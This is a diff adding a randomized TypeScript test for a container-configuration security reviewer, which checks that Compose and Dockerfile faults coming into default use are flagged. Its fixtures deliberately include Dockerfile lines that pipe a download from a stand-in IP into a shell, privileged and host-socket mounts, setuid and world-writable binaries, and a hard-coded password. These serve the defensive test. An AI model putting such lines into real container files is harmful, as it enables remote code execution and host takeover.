@@ -1,0 +1,275 @@
+/**
+ * What runs by default is compared, not what files are called: what comes into use is introduced, and a build is evidence that
+ * a stage is used, not that another is not. In variations that nobody wrote down, the same ones in every run.
+ */
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { defaultPolicyPath } from '../../src/policy/policy.ts';
+import { messageText } from '../../src/report/wording.ts';
+import type { Review } from '../../src/review/review.ts';
+import { changeOf } from '../change.ts';
+import { Chance } from '../model/compose/chance.ts';
+import { run } from '../run.ts';
+
+type Files = Readonly<Record<string, string>>;
+type Sides = readonly [before: Files, after: Files];
+
+const runs = 500;
+
+function reviewed([before, after]: Sides): Promise<Review> {
+  const [base, head] = [before, after].map((files) => new Map(Object.entries(files))) as [
+    Map<string, string>,
+    Map<string, string>,
+  ];
+  return run({
+    forge: changeOf(base, head),
+    policyPath: defaultPolicyPath,
+    overrides: {},
+    today: '2026-11-29',
+    proving: false,
+  });
+}
+
+function introduced({ findings }: Review): string[] {
+  return findings
+    .filter(({ standing }) => standing === 'introduced')
+    .map(({ rule, severity, message }) => `${severity} ${rule.id}: ${messageText(message, { values: [], places: [] })}`)
+    .sort();
+}
+
+const described = (sides: Sides) => JSON.stringify(sides, null, 1);
+
+/** A name that says nothing of what it is there for. */
+const names = ['web', 'api', 'worker', 'db', 'proxy', 'shop', 'queue', 'mail'];
+const folders = ['', 'deploy/', 'srv/', 'a/b/'];
+
+/** Lines of a service that are a fault of the highest two severities. */
+const faults = [
+  'privileged: true',
+  '"privileged": yes',
+  'pid: host\n    cap_add: [SYS_ADMIN]',
+  'volumes: ["/:/host"]',
+  'volumes:\n      - type: bind\n        source: /var/run/docker.sock\n        target: /var/run/docker.sock',
+  'cap_add: [ALL]',
+];
+
+function service(name: string, lines: readonly string[]): string {
+  return `  ${name}:\n${lines.map((line) => `    ${line}\n`).join('')}`;
+}
+
+const image = (name: string) => `image: example/${name}:1.2`;
+
+/** Ways in which a service that was there comes to be started. */
+const startings: Readonly<Record<string, (chance: Chance, folder: string) => Sides>> = {
+  'a file is called like the override': (chance, folder) => {
+    const { name, calm, fragment } = services(chance);
+    const override = chance.pick(['compose.override.yaml', 'docker-compose.override.yml']);
+    const other = chance.pick(['extra.yaml', 'compose.extra.yaml', 'docker-compose.more.yml']);
+    const base = { [`${folder}${mainOf(chance)}`]: calm };
+    const text = chance.is(0.5) ? fragment : `services:\n${service(name, [image(name), chance.pick(faults)])}`;
+    return [
+      { ...base, [folder + other]: text },
+      { ...base, [folder + override]: text },
+    ];
+  },
+  'COMPOSE_FILE names it': (chance, folder) => {
+    const { calm, fragment } = services(chance);
+    const main = mainOf(chance);
+    const mark = chance.pick([':', ';', ',']);
+    const separator = mark === ':' && chance.is(0.5) ? '' : `COMPOSE_PATH_SEPARATOR=${mark}\n`;
+    const quote = chance.pick(['', '"', "'"]);
+    const files = { [folder + main]: calm, [`${folder}docker-compose.more.yml`]: fragment };
+    const named = `${quote}${main}${mark}docker-compose.more.yml${quote}`;
+    const before: Files = chance.is(0.5) ? { ...files, [`${folder}.env`]: 'A=1\n' } : files;
+    return [before, { ...files, [`${folder}.env`]: `A=1\n${separator}COMPOSE_FILE=${named}\n` }];
+  },
+  'the file that is taken before it goes': (chance, folder) => {
+    const { calm, whole } = services(chance);
+    const files = { [`${folder}docker-compose.yml`]: whole };
+    return [{ ...files, [folder + chance.pick(['compose.yaml', 'compose.yml'])]: calm }, files];
+  },
+  'no profile waits any more': (chance, folder) => {
+    const { name, calm } = services(chance);
+    const lines = [image(name), chance.pick(faults)];
+    const rest = calm.replace(service(name, [image(name)]), '');
+    const path = folder + mainOf(chance);
+    const [before, after] = [[...lines, 'profiles: [more]'], lines].map((each) => ({
+      [path]: rest + service(name, each),
+    }));
+    return [before!, after!];
+  },
+  'COMPOSE_PROFILES asks for it': (chance, folder) => {
+    const { name } = services(chance);
+    const lines = [image(name), chance.pick(faults), 'profiles: [more]'];
+    const files = { [folder + mainOf(chance)]: `services:\n${service(name, lines)}` };
+    return [files, { ...files, [`${folder}.env`]: `COMPOSE_PROFILES=${chance.pick(['more', '*', 'less,more'])}\n` }];
+  },
+  'another file includes it': (chance, folder) => {
+    const { calm } = services(chance);
+    const part = `services:\n${service('part', [image('part'), chance.pick(faults)])}`;
+    const path = folder + mainOf(chance);
+    return [
+      { [path]: calm, [`${folder}part/more.yaml`]: part },
+      { [path]: `include: [part/more.yaml]\n${calm}`, [`${folder}part/more.yaml`]: part },
+    ];
+  },
+};
+
+function mainOf(chance: Chance): string {
+  return chance.pick(['compose.yaml', 'compose.yml', 'docker-compose.yml', 'docker-compose.yaml']);
+}
+
+/** A file in which nothing is wrong, one with a fault of one of its services, and one that only adds the fault. */
+function services(chance: Chance) {
+  const some = names.filter(() => chance.is(0.3));
+  const name = chance.pick(names);
+  const all = [...some.filter((each) => each !== name), name];
+  const fault = chance.pick(faults);
+  const written = (own: readonly string[]) =>
+    `services:\n${all.map((each) => service(each, each === name ? own : [image(each)])).join('')}`;
+  return {
+    name,
+    calm: written([image(name)]),
+    whole: written([image(name), fault]),
+    fragment: `services:\n${service(name, [fault])}`,
+  };
+}
+
+const good = ['RUN useradd app', 'USER app'];
+const bad = [
+  'RUN curl http://192.0.2.7/x | sh',
+  'run wget -qO- http://192.0.2.7/x | bash',
+  'RUN curl -o /x http://192.0.2.7/x && sh /x',
+  'RUN apt-get update && \\\n    curl http://192.0.2.7/x | sh',
+];
+
+function stage(name: string, lines: readonly string[], from = 'debian:12.1'): string {
+  return `FROM ${from} AS ${name}\n${lines.join('\n')}\n`;
+}
+
+/** Ways in which a stage that was there comes to be built, or to be a part of what is. */
+const buildings: Readonly<Record<string, (chance: Chance) => Sides>> = {
+  'compose builds another target': (chance) =>
+    builtBy(chance, (target) => ({ [`${mainOf(chance)}`]: composeOf(chance, target) })),
+  'bake builds another target': (chance) =>
+    builtBy(chance, (target) => ({
+      'docker-bake.hcl': `target "app" {\n  tags = ["example/app"]\n  target = "${target}"\n}\n`,
+    })),
+  'the last two stages are swapped': (chance) => {
+    const [calm, fault] = twoStages(chance);
+    return [{ Dockerfile: fault + calm }, { Dockerfile: calm + fault }];
+  },
+  'the last stage goes': (chance) => {
+    const [calm, fault] = twoStages(chance);
+    return [{ Dockerfile: fault + calm }, { Dockerfile: fault }];
+  },
+  'the last stage takes files of it': (chance) => {
+    const [calm, fault, name] = twoStages(chance);
+    const taking = chance.pick([
+      `COPY --from=${name} /x /x`,
+      `copy --chmod=755 --from=${name} /x /x`,
+      `RUN --mount=from=${name},target=/x /x/y`,
+    ]);
+    return [{ Dockerfile: fault + calm }, { Dockerfile: `${fault}${calm}${taking}\n` }];
+  },
+  'the last stage begins with it': (chance) => {
+    const [calm, fault, name] = twoStages(chance);
+    return [{ Dockerfile: fault + calm }, { Dockerfile: fault + calm.replace('debian:12.1', name) }];
+  },
+};
+
+function twoStages(chance: Chance): [calm: string, fault: string, name: string] {
+  const name = chance.pick(names);
+  const other = chance.pick(names.filter((each) => each !== name));
+  return [stage(other, good), stage(name, [chance.pick(bad), ...good]), name];
+}
+
+function builtBy(chance: Chance, files: (target: string) => Files): Sides {
+  const [calm, fault, name] = twoStages(chance);
+  const other = /AS (\w+)/.exec(calm)![1]!;
+  const Dockerfile = chance.is(0.5) ? calm + fault : fault + calm;
+  // The same choices on both sides.
+  const written = new Map([other, name].map((target) => [target, files('TARGET')] as const));
+  const filled = (target: string) =>
+    Object.fromEntries(
+      Object.entries(written.get(other)!).map(([path, text]) => [path, text.replace('TARGET', target)]),
+    );
+  return [
+    { Dockerfile, ...filled(other) },
+    { Dockerfile, ...filled(name) },
+  ];
+}
+
+function composeOf(chance: Chance, target: string): string {
+  return chance.pick([
+    `services:\n  app:\n    build:\n      context: .\n      target: ${target}\n`,
+    `services:\n  app:\n    build: { context: ., target: "${target}" }\n`,
+  ]);
+}
+
+for (const [kind, ways] of Object.entries({ service: startings, stage: buildings })) {
+  test(`a ${kind} with a fault that comes into use is introduced`, async () => {
+    const chance = new Chance(31);
+    for (let i = 0; i < runs; i++) {
+      const [way, make] = chance.pick(Object.entries(ways));
+      const sides =
+        kind === 'service' ? make(chance, chance.pick(folders)) : (make as (chance: Chance) => Sides)(chance);
+      const review = await reviewed(sides);
+      assert.equal(review.verdict, 'fail', `${way}: ${described(sides)}`);
+      if (i % 5 > 0) continue;
+      // What is in use on both sides is as it was.
+      const kept = await reviewed([sides[1], { ...sides[1], README: 'x' }]);
+      assert.deepEqual(introduced(kept), [], `${way}: ${described(sides)}`);
+    }
+  });
+}
+
+/** What is wrong with an image that ships, behind what its stage does. */
+const ofImages = [
+  'USER root',
+  'ENV API_PASSWORD=Vq7#kLp2!xZ9mR4t',
+  'RUN chmod 4755 /usr/bin/find',
+  'RUN chmod -R 777 /usr/bin',
+];
+
+/** Ways in which somebody builds another stage, which publish nothing. */
+const otherBuilds: readonly ((chance: Chance, target: string) => Files)[] = [
+  (chance, target) => ({
+    [chance.pick(['compose.dev.yml', 'docker-compose.test.yaml', mainOf(chance)])]: composeOf(chance, target),
+  }),
+  (chance, target) => ({
+    [`.devcontainer/${mainOf(chance)}`]: composeOf(chance, target).replace('context: .', 'context: ..'),
+  }),
+  (chance, target) => ({
+    [chance.pick([
+      'docker-bake.hcl',
+      'docker-bake.override.hcl',
+    ])]: `target "${chance.pick(['dev', 'app-test', 'ci'])}" {\n  tags = ["example/app"]\n  target = "${target}"\n}\n`,
+  }),
+  // Seen for the first time in this change, which publishes it in earnest.
+  (_, target) => ({ 'docker-bake.json': JSON.stringify({ target: { app: { target, tags: ['example/app'] } } }) }),
+];
+
+test('a build of another stage takes nothing out of the review', async () => {
+  const chance = new Chance(32);
+  for (let i = 0; i < runs; i++) {
+    const target = chance.pick(['devcontainer', 'dev', 'test', 'lint', 'base']);
+    const last = chance.is(0.3) ? stage('app', good).replace(' AS app', '') : stage('app', good);
+    const before = stage(target, good) + last;
+    const after = `${before}${chance.pick(ofImages)}\n`;
+    const other = chance.pick(otherBuilds)(chance, target);
+    // Also where the build was merged long before.
+    const old = chance.is(0.3) && !('docker-bake.json' in other) ? other : {};
+    const [alone, beside] = [
+      await reviewed([{ Dockerfile: before }, { Dockerfile: after }]),
+      await reviewed([
+        { Dockerfile: before, ...old },
+        { Dockerfile: after, ...other },
+      ]),
+    ];
+    const told = introduced(beside);
+    assert.notEqual(introduced(alone).length, 0, after);
+    for (const each of introduced(alone))
+      assert.ok(told.includes(each), `${each}: ${described([{}, { ...other, Dockerfile: after }])}`);
+  }
+});
